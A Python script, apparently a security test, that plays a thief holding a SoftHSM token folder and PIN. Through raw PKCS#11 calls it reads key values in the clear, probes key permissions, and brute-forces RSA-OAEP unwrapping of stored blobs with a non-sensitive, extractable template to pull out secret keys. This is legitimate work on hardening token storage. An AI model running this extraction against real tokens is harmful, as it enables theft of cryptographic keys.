#!/usr/bin/env python3
"""Somebody has found a stick – the folder of a software token – and knows its PIN. He has no program of ours: he speaks PKCS#11 to the
library itself and tries to get keys out of it. Prints what he got as JSON.

    stick.py FOLDER_OF_TOKENS LABEL PIN
"""
import ctypes
import json
import os
import sys
import tempfile

LIBRARY = "/usr/lib/softhsm/libsofthsm2.so"
ULONG = ctypes.c_ulong
CLASS, TOKEN, PRIVATE, VALUE, LABEL, KEY_TYPE = 0x000, 0x001, 0x002, 0x011, 0x003, 0x100
SENSITIVE, ENCRYPT, DECRYPT, WRAP, UNWRAP, SIGN, DERIVE, EXTRACTABLE = 0x103, 0x104, 0x105, 0x106, 0x107, 0x108, 0x10C, 0x162
DATA, PUBLIC_KEY, PRIVATE_KEY, SECRET_KEY = 0, 2, 3, 4
AES = 0x1F
RSA_OAEP, AES_WRAP_PADDED, DES3_ECB, AES_ECB = 0x9, 0x210A, 0x132, 0x1081
SHA_1, MGF1_SHA1, DATA_SPECIFIED = 0x220, 1, 1


class Attribute(ctypes.Structure):
    _fields_ = [("type", ULONG), ("value", ctypes.c_void_p), ("length", ULONG)]


class Mechanism(ctypes.Structure):
    _fields_ = [("mechanism", ULONG), ("parameter", ctypes.c_void_p), ("length", ULONG)]


class Oaep(ctypes.Structure):
    _fields_ = [("hash", ULONG), ("mgf", ULONG), ("source", ULONG), ("data", ctypes.c_void_p), ("length", ULONG)]


def template(**wanted):
    """Attributes of his own choice: numbers, truth values."""
    kept = [(globals()[name.upper()], ctypes.c_ubyte(value) if isinstance(value, bool) else ULONG(value)) for name, value in wanted.items()]
    made = (Attribute * len(kept))(*[Attribute(kind, ctypes.cast(ctypes.pointer(value), ctypes.c_void_p), ctypes.sizeof(value)) for kind, value in kept])
    made.kept = kept
    return made


class Thief:
    def __init__(self, folder, label, pin):
        conf = tempfile.NamedTemporaryFile("w", suffix=".conf", delete=False)
        conf.write(f"directories.tokendir = {folder}\nobjectstore.backend = file\nlog.level = ERROR\n")
        conf.close()
        os.environ["SOFTHSM2_CONF"] = conf.name
        self.call = ctypes.CDLL(LIBRARY)
        assert self.call.C_Initialize(None) == 0
        self.session = ULONG()
        assert self.call.C_OpenSession(self.slot_of(label), ULONG(6), None, None, ctypes.byref(self.session)) == 0
        self.pin_was_taken = self.call.C_Login(self.session, ULONG(1), pin.encode(), ULONG(len(pin))) == 0

    def slot_of(self, label):
        count = ULONG()
        self.call.C_GetSlotList(ctypes.c_ubyte(1), None, ctypes.byref(count))
        slots = (ULONG * count.value)()
        self.call.C_GetSlotList(ctypes.c_ubyte(1), slots, ctypes.byref(count))
        for slot in slots:
            info = ctypes.create_string_buffer(512)
            if self.call.C_GetTokenInfo(ULONG(slot), info) == 0 and info.raw[:32].decode(errors="replace").strip() == label:
                return ULONG(slot)
        raise SystemExit("no such stick")

    def read(self, handle, kind):
        """An attribute's bytes; nothing when the token does not give it."""
        asked = Attribute(kind, None, 0)
        if self.call.C_GetAttributeValue(self.session, ULONG(handle), ctypes.byref(asked), ULONG(1)) != 0 or asked.length in (0, ULONG(-1).value):
            return None
        room = ctypes.create_string_buffer(asked.length)
        asked.value = ctypes.cast(room, ctypes.c_void_p)
        done = self.call.C_GetAttributeValue(self.session, ULONG(handle), ctypes.byref(asked), ULONG(1)) == 0
        return room.raw[:asked.length] if done else None

    def everything(self):
        assert self.call.C_FindObjectsInit(self.session, None, ULONG(0)) == 0
        found, handle, count = [], ULONG(), ULONG()
        while self.call.C_FindObjects(self.session, ctypes.byref(handle), ULONG(1), ctypes.byref(count)) == 0 and count.value == 1:
            found.append(handle.value)
        self.call.C_FindObjectsFinal(self.session)
        return [(one, int.from_bytes(self.read(one, CLASS), "little")) for one in found]

    def may(self, handle, use):
        return self.read(handle, use) == b"\1"

    def unwrapped(self, mechanism, by, blob, **more):
        made = ULONG()
        wanted = template(**{"class": SECRET_KEY, "key_type": AES, "token": False, "sensitive": False, "extractable": True, **more})
        done = self.call.C_UnwrapKey(self.session, ctypes.byref(mechanism), ULONG(by), blob, ULONG(len(blob)), wanted, ULONG(len(wanted)), ctypes.byref(made))
        return made.value if done == 0 else None

    def enciphers(self, handle):
        for kind, block in ((DES3_ECB, bytes(8)), (AES_ECB, bytes(16))):
            if self.call.C_EncryptInit(self.session, ctypes.byref(Mechanism(kind, None, 0)), ULONG(handle)) != 0:
                continue
            out, size = ctypes.create_string_buffer(64), ULONG(64)
            if self.call.C_Encrypt(self.session, block, ULONG(len(block)), out, ctypes.byref(size)) == 0:
                return True
        return False

    def transport_keys(self, private, blobs):
        """Every 256 bytes of everything that lies there, opened with his own template."""
        got = []
        oaep = Oaep(SHA_1, MGF1_SHA1, DATA_SPECIFIED, None, 0)
        mechanism = Mechanism(RSA_OAEP, ctypes.cast(ctypes.pointer(oaep), ctypes.c_void_p), ctypes.sizeof(oaep))
        for blob in blobs:
            for at in range(0, max(0, len(blob) - 255)):
                key = self.unwrapped(mechanism, private, blob[at:at + 256], unwrap=True, decrypt=True)
                if key:
                    got.append(self.read(key, VALUE))
        return [value.hex() for value in got if value]


def attack(folder, label, pin):
    thief = Thief(folder, label, pin)
    objects = thief.everything()
    keys = [handle for handle, kind in objects if kind in (PRIVATE_KEY, SECRET_KEY)]
    blobs = [value for handle, kind in objects if kind == DATA for value in [thief.read(handle, VALUE)] if value]
    return {"pin_was_taken": thief.pin_was_taken,
            "objects": len(objects),
            "pairs": sum(kind == PRIVATE_KEY for _, kind in objects),
            "secret_keys": sum(kind == SECRET_KEY for _, kind in objects),
            "read_in_clear": [thief.read(handle, VALUE).hex() for handle in keys if thief.read(handle, VALUE)],
            "enciphering": sum(thief.enciphers(handle) for handle in keys),
            "may_derive_unwrap_or_decrypt": sum(thief.may(handle, use) for handle in keys for use in (DERIVE, UNWRAP, DECRYPT)),
            "transport_keys": [found for handle, kind in objects if kind == PRIVATE_KEY for found in thief.transport_keys(handle, blobs)]}


if __name__ == "__main__":
    print(json.dumps(attack(*sys.argv[1:])))
